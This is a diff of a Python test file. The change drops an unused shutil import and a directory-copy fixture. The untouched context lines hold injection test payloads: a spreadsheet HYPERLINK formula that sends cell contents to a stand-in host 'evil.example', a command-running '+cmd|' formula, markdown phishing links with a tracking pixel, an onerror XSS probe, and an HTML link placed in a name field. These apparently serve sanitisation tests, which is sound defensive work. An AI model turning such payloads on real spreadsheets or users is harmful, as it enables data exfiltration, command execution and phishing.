@@ -7,7 +7,6 @@ from __future__ import annotations
 import io
 import json
 import re
-import shutil
 import zipfile
 from pathlib import Path
 
@@ -40,12 +39,6 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+cmd|' /C cal
 MARKDOWN = "[click me](http://evil.example/phish) ![](http://evil.example/pixel.png) <img src=x onerror=alert(1)> **bold**"
 HTML_NAME = '<a href="http://evil.example/phish">svc-reporting</a>'
 
-
-@pytest.fixture
-def lake(tmp_path, sample) -> Path:
-    copy = tmp_path / "lake"
-    shutil.copytree(sample, copy)
-    return copy
 
 
 def plant_notes(lake: Path, me, colleague) -> list[str]:
